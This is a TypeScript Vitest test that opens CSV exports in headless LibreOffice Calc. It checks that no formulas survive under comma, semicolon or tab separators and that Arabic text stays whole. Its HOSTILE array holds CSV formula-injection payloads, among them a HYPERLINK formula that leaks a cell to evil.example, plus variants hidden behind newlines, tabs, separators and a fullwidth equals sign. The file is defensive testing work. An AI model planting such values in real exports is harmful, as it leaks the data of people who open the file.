import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, describe, expect, it } from 'vitest';
import { toCsv, type CsvColumn } from '@/src/csv';

// LibreOffice Calc (Debian's libreoffice-calc-nogui) opens the exports as a person would: with its default
// CSV import, formulas evaluated. A developer without it is told so; CI installs it (.ci/run) and must run this.
const soffice = (process.env.PATH ?? '')
  .split(delimiter)
  .map((dir) => join(dir, 'soffice'))
  .find((path) => existsSync(path));
const run = promisify(execFile);

const ARABIC = 'قهوة عربية';
const HOSTILE = [
  'a;=1+1;b',
  '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
  '+1',
  '-1+2',
  '@SUM(1)',
  '\r=1+1',
  '\n=1+1',
  'a\r\n=1+1',
  'a\t=1+1',
  '\t=1+1',
  'x,=1+1',
  'a; =1+1',
  'a;"=1+1"',
  'say "hi";=1+1',
  '＝1+1',
  ARABIC,
];

interface Row {
  id: string;
  text: string;
  amount: number;
}

// The hostile text as the first cell of a line, between two other cells, and beside a negative number.
const columns: CsvColumn<Row>[] = [
  { label: 'Text', value: (row) => row.text },
  { label: 'Id', value: (row) => row.id },
  { label: 'Again', value: (row) => row.text },
  { label: 'Amount', value: (row) => row.amount },
];
const rows: Row[] = HOSTILE.map((text, index) => ({ id: `r${index}`, text, amount: -5 }));

// LibreOffice's CSV filter options: separator, text delimiter ("), character set (76 = UTF-8), first line.
const SEPARATORS = { comma: 44, semicolon: 59, tab: 9 } as const;

let work: string | undefined;
afterAll(async () => {
  if (work) await rm(work, { recursive: true, force: true });
});

/** Opens the same CSV once with each separator and returns each sheet as flat ODF XML. */
async function openInCalc(csv: string): Promise<Record<keyof typeof SEPARATORS, string>> {
  work = await mkdtemp(join(tmpdir(), 'csv-calc-'));
  const dir = work;
  const profile = `file://${join(dir, 'profile')}`;
  const sheets = {} as Record<keyof typeof SEPARATORS, string>;
  // One soffice at a time per profile; the profile is this run's own, so parallel runs do not clash.
  for (const [name, code] of Object.entries(SEPARATORS) as [keyof typeof SEPARATORS, number][]) {
    const input = join(dir, `${name}.csv`);
    await writeFile(input, csv, 'utf8');
    await run(
      soffice!,
      [
        `-env:UserInstallation=${profile}`,
        '--headless',
        `--infilter=CSV:${code},34,76,1`,
        '--convert-to',
        'fods',
        '--outdir',
        dir,
        input,
      ],
      { timeout: 90_000 },
    );
    sheets[name] = await readFile(join(dir, `${name}.fods`), 'utf8');
  }
  return sheets;
}

const inCi = Boolean(process.env.CI);
if (!soffice && !inCi)
  console.warn(
    'csvSpreadsheet.test.ts: skipped, LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui',
  );

describe.skipIf(!soffice && !inCi)('a CSV export opened in LibreOffice Calc', () => {
  it('gives no formula and keeps Arabic text whole, whether the sheet splits on comma, semicolon or tab', async () => {
    expect(
      soffice,
      'LibreOffice (soffice) must be installed on CI: apt-get install libreoffice-calc-nogui',
    ).toBeDefined();
    const sheets = await openInCalc(toCsv(rows, columns));
    for (const [separator, xml] of Object.entries(sheets)) {
      const formulas = [...xml.matchAll(/table:formula="([^"]*)"/g)].map((match) => match[1]);
      expect(formulas, `formulas with ${separator} as the separator`).toEqual([]);
      // Split on ; or tab, a whole comma-separated line is one cell: the Arabic is whole inside it.
      expect(xml, `Arabic with ${separator} as the separator`).toMatch(
        new RegExp(`<text:p>[^<]*${ARABIC}[^<]*</text:p>`),
      );
    }
    // Read as the file is written, every value stays in its own cell and the numbers stay numbers.
    const comma = sheets.comma;
    expect(comma).toContain(`<text:p>${ARABIC}</text:p>`);
    expect(comma.match(/<table:table-row\b/g)).toHaveLength(rows.length + 1);
    expect(comma.match(/office:value-type="float" office:value="-5"/g)).toHaveLength(rows.length);
  }, 120_000);
});
